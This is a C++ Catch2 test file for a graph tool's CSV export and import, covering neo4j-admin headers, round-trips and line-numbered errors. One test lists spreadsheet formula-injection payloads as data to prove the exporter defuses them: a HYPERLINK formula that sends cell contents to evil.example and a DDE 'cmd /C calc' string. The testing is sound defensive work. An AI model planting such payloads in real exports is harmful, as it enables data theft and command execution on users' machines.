#include <algorithm>
#include <fstream>

#include <catch2/catch_all.hpp>

#include "graph/export/export_trial.h"
#include "graph/export/record_scan.h"
#include "graph/ingest/import.h"
#include "support/temporary_folder.h"

namespace stemma::testing {
namespace {

Result<ImportReport> Import(const std::string& csv, MemoryGraph& graph) {
  const TemporaryFolder folder;
  const std::string file = (folder / "tables.csv").string();
  std::ofstream(file, std::ios::binary) << csv;
  const auto sink = graph.Begin();
  return ImportFiles({file}, {}, *sink);
}

std::string Described(const NodeState& node) {
  std::string text = node.id + " " + std::string(Name(node.kind)) + "\n";
  std::vector<Field> fields = node.fields;
  std::sort(fields.begin(), fields.end(),
            [](const Field& a, const Field& b) { return a.name < b.name; });
  for (const Field& field : fields) {
    text += " " + field.name + (field.is_text ? "=" : ":=") + field.value + "\n";
  }
  return text;
}

// What a table of rows can say: every node's state, and every edge's.
struct States {
  std::vector<std::string> nodes;
  std::vector<EdgeAssertion> edges;
};

States StatesOf(const GraphView& graph) {
  States states;
  Must(ScanNodeRecords(graph, nullptr, [&](const NodeState& node) {
    states.nodes.push_back(Described(node));
    return Status();
  }));
  Must(ScanEdgeRecords(graph, nullptr, [&](const EdgeRecord& edge) {
    states.edges.push_back(edge.said);
    states.edges.back().at_given = true;
    std::sort(states.edges.back().extra.begin(), states.edges.back().extra.end(),
              [](const Field& a, const Field& b) { return a.name < b.name; });
    return Status();
  }));
  std::sort(states.nodes.begin(), states.nodes.end());
  std::sort(states.edges.begin(), states.edges.end(),
            [](const EdgeAssertion& a, const EdgeAssertion& b) {
              return std::tie(a.from, a.kind, a.to) < std::tie(b.from, b.kind, b.to);
            });
  return states;
}

void CheckComesBack(const GraphView& graph) {
  const Exported exported = Export("csv", graph);
  INFO(exported.text);
  MemoryGraph copy;
  Must(Import(exported.text, copy));
  const States before = StatesOf(graph);
  const States after = StatesOf(copy);
  CHECK(before.nodes == after.nodes);
  REQUIRE(before.edges.size() == after.edges.size());
  for (size_t i = 0; i < before.edges.size(); ++i) {
    INFO(before.edges[i].from << " " << before.edges[i].to);
    CHECK(before.edges[i] == after.edges[i]);
  }
}

TEST_CASE("CSV has the headers of neo4j-admin import, with types") {
  GraphBuilder builder;
  builder.Node(NodeKind::kArticle, "a", {{"title", "T, \"x\""}, {"first_hand", "true"}});
  builder.Node(NodeKind::kOutlet, "o", {{"aliases", R"(["A","B"])"}, {"geo", "[1]"}});
  builder.Edge("a", EdgeKind::kCites, "o", [](EdgeAssertion& edge) {
    edge.confidence = Confidence{true, 1, 2, 0};
    edge.extra = {{"pages", false, "12"}, {"a:b", true, "c"}};
  });
  CHECK(Export("csv", builder.Graph()).text ==
        "id:ID,title,first_hand:boolean,aliases:string[],geo.json,:LABEL\n"
        "a,\"T, \"\"x\"\"\",true,,,article\n"
        "o,,,A;B,[1],outlet\n"
        "\n"
        ":START_ID,:END_ID,:TYPE,status,confidence:double,confidence.right:long,"
        "confidence.fired:long,at,pages:long,a:b:string\n"
        "a,o,cites,asserted,0.09453120573423071,1,2,1970-01-01T00:00:00Z,12,c\n");
}

TEST_CASE("a hostile graph comes back from CSV as it was") {
  GraphBuilder builder;
  CheckComesBack(BuildHostile(builder));
}

TEST_CASE("nothing in a table is a formula, and what is stored comes back") {
  GraphBuilder builder;
  const std::vector<std::string> formulas = {"=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
                                             "+1+cmd|' /C calc'!A0",
                                             "-2+3",
                                             "@SUM(A1)",
                                             "\t=1",
                                             "\r=1",
                                             "\n=1",
                                             "'=1",
                                             "''@x",
                                             "-x"};
  builder.Node(NodeKind::kArticle, "=1", {{"=header", "x"}});
  for (size_t i = 0; i < formulas.size(); ++i) {
    const std::string id = "n" + std::to_string(i);
    builder.Node(NodeKind::kOutlet, id, {{"name", formulas[i]}});
    builder.Edge("=1", EdgeKind::kCites, id, [&](EdgeAssertion& edge) {
      edge.because = formulas[i];
      edge.extra = {{"pages", false, "-5"}};
    });
  }
  builder.Node(NodeKind::kOutlet, "plain",
               {{"name", "-5.5e3"}, {"aliases", R"(["'t Hooft","'"])"}});
  const std::string text = Export("csv", builder.Graph()).text;
  INFO(text);
  for (const std::string begins : {",", ",\""}) {
    for (const char c : std::string("=+@\t\r\n")) {
      CHECK(text.find(begins + c) == std::string::npos);
    }
  }
  CHECK(text.find("\n'=1,x,,,article\n") != std::string::npos);  // ids too
  CHECK(text.find("\n'=1,n0,cites,") != std::string::npos);
  CHECK(text.find(",'-2+3,") != std::string::npos);
  CHECK(text.find(",''=1,") != std::string::npos);
  CHECK(text.find(",-5.5e3,") != std::string::npos);  // a number is none
  CHECK(text.find(",'t Hooft;',") != std::string::npos);
  CheckComesBack(builder.Graph());
}

TEST_CASE("fields with names that mean something in a header come back from CSV") {
  GraphBuilder builder;
  builder.Node(NodeKind::kArticle, "a",
               {{"inherited", "text"},
                {"claims", "text"},
                {"confidence", "high"},
                {"confidence.right", "r"},
                {"evidence", "text"},
                {"evidence.exact", "x"},
                {"x.json", "{"},
                {"x.json.json", "[1]"},
                {"", "no name"},
                {"a:ID", "colon"},
                {":LABEL", "label"},
                {"b:int", "text"},
                {"list[]", "text"},
                {" blank ", " blank "},
                {"kind", "text"},
                {"right", "text"},
                {"from", "text"},
                {"title", "=SUM(A1)"},
                {"nul", std::string("a\0b", 3)}});
  builder.Node(NodeKind::kArticle, "b", {{"list", R"(["a;b"])"}, {"mixed", "text"}});
  builder.Node(NodeKind::kArticle, "c", {{"list", R"(["","x"])"}, {"mixed", "true"}});
  builder.Node(NodeKind::kArticle, "d", {{"list", R"([""])"}, {"mixed", "[]"}});
  builder.Node(NodeKind::kArticle, "e", {{"list", "[]"}});
  builder.Node(NodeKind::kArticle, "f", {{"list", R"(["[1]"])"}});
  builder.Edge("a", EdgeKind::kCites, "b", [](EdgeAssertion& edge) {
    edge.extra = {{"first_hand", true, "text"}, {"unnamed", false, "12"},
                  {"aliases", true, "text"},    {"evidence.exact", true, "x"},
                  {"right", true, "text"},      {"id", true, "text"},
                  {"a(b):ID", true, "text"}};
  });
  CheckComesBack(builder.Graph());
}

TEST_CASE("all that an edge says comes back from CSV, with the evidence of all assertions") {
  GraphBuilder builder;
  builder.Node(NodeKind::kArticle, "a", {{"text", "one two"}}).Node(NodeKind::kArticle, "b");
  builder.Node(NodeKind::kClaim, "x;y").Node(NodeKind::kClaim, "z").Node(NodeKind::kArticle, "c");
  builder.Edge("a", EdgeKind::kDerivedFrom, "b", [](EdgeAssertion& edge) {
    edge.how = "translation";
    edge.inherited = true;
    edge.claims = {"x;y", "z"};
    edge.as_printed = "As, \"printed\"";
    Evidence evidence;
    evidence.in = "a";
    evidence.start = 0;
    evidence.end = 3;
    evidence.exact = "one";
    evidence.extra = {{"page", false, "3"}};
    edge.evidence = {evidence};
    edge.by = "desk";
    edge.because = "so\n\nit is";
    edge.at = 5;
  });
  builder.Edge("a", EdgeKind::kDerivedFrom, "b", [](EdgeAssertion& edge) {
    edge.method = "m/1";
    edge.status = AssertionStatus::kInferred;
    Evidence evidence;
    evidence.exact = "two";
    edge.evidence = {evidence};
  });
  builder.Edge("b", EdgeKind::kCites, "a", [](EdgeAssertion& edge) {
    edge.method = "m/1";
    edge.status = AssertionStatus::kExtracted;
    edge.confidence = Confidence{true, 264, 281, 0};
  });
  builder.Edge("c", EdgeKind::kSameAs, "b",
               [](EdgeAssertion& edge) { edge.judgement = Judgement::kUnsure; });
  builder.Edge("c", EdgeKind::kCites, "b", [](EdgeAssertion& edge) {
    edge.confidence = Confidence{false, 0, 0, 0.125};
  });
  CheckComesBack(builder.Graph());
}

TEST_CASE("CSV says what it leaves out") {
  GraphBuilder builder;
  builder.Node(NodeKind::kArticle, "a", {{"title", ""}, {"lang", "en"}});
  builder.Edge("a", EdgeKind::kCites, "a", [](EdgeAssertion& edge) {
    edge.extra = {{"confidence.right", true, "x"}};
  });
  const Exported exported = Export("csv", builder.Graph());
  CHECK(exported.LeftOut("1 texts that are empty (first: title of a)"));
  CHECK(
      exported.LeftOut("1 fields with the name of one that the format has (first: "
                       "confidence.right of a cites a)"));
}

TEST_CASE("only behind an empty line a header begins another table") {
  MemoryGraph graph;
  Must(
      Import("id:ID,title,:LABEL\r\na,\"x\r\n\r\n:START_ID,:END_ID,:TYPE\",article\r\n\r\n"
             "b,y,article\r\n\r\n:START_ID,:END_ID,:TYPE\r\na,b,cites\r\n\r\n"
             ":ID,:LABEL\r\nc,article\r\n",
             graph));
  const GraphCounts counts = Must(graph.Counts());
  CHECK(counts.nodes == 3);
  CHECK(counts.edges == 1);

  MemoryGraph other;
  const auto without = Import("id:ID,title,:LABEL\r\na,x,article\r\nb:ID,c,x:LABEL\r\n", other);
  REQUIRE_FALSE(without.has_value());
  CHECK(without.error().message.find(":3: :LABEL: expected article") != std::string::npos);
}

TEST_CASE("a second header that is none, and cells of JSON that are none, are told by line") {
  MemoryGraph graph;
  const auto header = Import("id:ID,:LABEL\na,article\n\nid:ID,x:what,:LABEL\n", graph);
  REQUIRE_FALSE(header.has_value());
  CHECK(header.error().message.find("tables.csv:4: x:what: unknown type") != std::string::npos);
  MemoryGraph other;
  const auto cell = Import("id:ID,geo.json,:LABEL\na,{,article\n", other);
  REQUIRE_FALSE(cell.has_value());
  CHECK(cell.error().message.find("tables.csv:2: geo.json: expected JSON, found \"{\"") !=
        std::string::npos);
}

}  // namespace
}  // namespace stemma::testing
